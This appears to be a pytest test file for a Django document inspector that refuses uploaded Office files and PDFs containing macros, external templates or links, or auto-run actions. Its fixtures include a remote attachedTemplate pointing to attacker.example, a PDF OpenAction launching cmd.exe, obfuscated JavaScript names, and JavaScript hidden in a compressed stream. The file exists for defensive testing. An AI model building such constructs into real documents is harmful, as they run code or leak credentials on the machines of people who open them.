"""Documents are inspected for active content, not only sniffed (core/files/inspection.py)."""

import zlib

import pytest
from django.core.exceptions import ValidationError

from core.files.inspection import inspect_document
from core.testing.factories import package, pdf

MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACROS = "Tài liệu này có chứa macro (mã Visual Basic)"
OUTSIDE = "Tài liệu này liên kết tới một tệp hoặc mẫu bên ngoài"
PDF_ACTIVE = "Tệp PDF này có chứa mã lệnh hoặc thao tác tự chạy khi mở"


def refusal(data):
    with pytest.raises(ValidationError) as caught:
        inspect_document(data)
    return " ".join(caught.value.messages)


def test_a_plain_docx_with_a_hyperlink_passes():
    link = f'<Relationship Id="rId1" Type="{REL}/hyperlink" Target="https://thads.example.vn" TargetMode="External"/>'
    inspect_document(package(document_rels=link))


def test_a_vba_project_is_refused_even_in_a_docx():
    assert MACROS in refusal(package(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))


def test_a_macro_content_type_is_refused():
    assert MACROS in refusal(package(main_type=MACRO_MAIN))
    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    assert MACROS in refusal(package(extra_types=extra))


def test_an_attached_template_on_a_server_is_refused():
    settings_rels = (f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                     'Target="http://attacker.example/mau.dotm" TargetMode="External"/>')
    data = package(parts={"word/_rels/settings.xml.rels":
                          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                          f"{settings_rels}</Relationships>"})
    message = refusal(data)
    assert OUTSIDE in message and "http://attacker.example/mau.dotm" in message


def test_an_external_picture_or_object_is_refused():
    picture = f'<Relationship Id="rId2" Type="{REL}/image" Target="\\\\10.0.0.5\\share\\a.png" TargetMode="External"/>'
    assert OUTSIDE in refusal(package(document_rels=picture))


@pytest.mark.parametrize("body", [
    b"1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj 2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
    b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
    b"1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(x)>>>>endobj",
])
def test_pdfs_that_run_something_are_refused(body):
    assert PDF_ACTIVE in refusal(pdf(body))


def test_a_script_hidden_in_a_compressed_object_stream_is_refused():
    hidden = zlib.compress(b"2 0 obj<</S/JavaScript/JS(app.launchURL('http://x'))>>endobj")
    body = (b"1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj 3 0 obj<</Type/ObjStm/Filter/FlateDecode/Length "
            + str(len(hidden)).encode() + b">>stream\n" + hidden + b"\nendstream endobj")
    assert "JavaScript" in refusal(pdf(body))


def test_an_ordinary_pdf_opening_on_its_first_page_passes():
    inspect_document(pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj"))
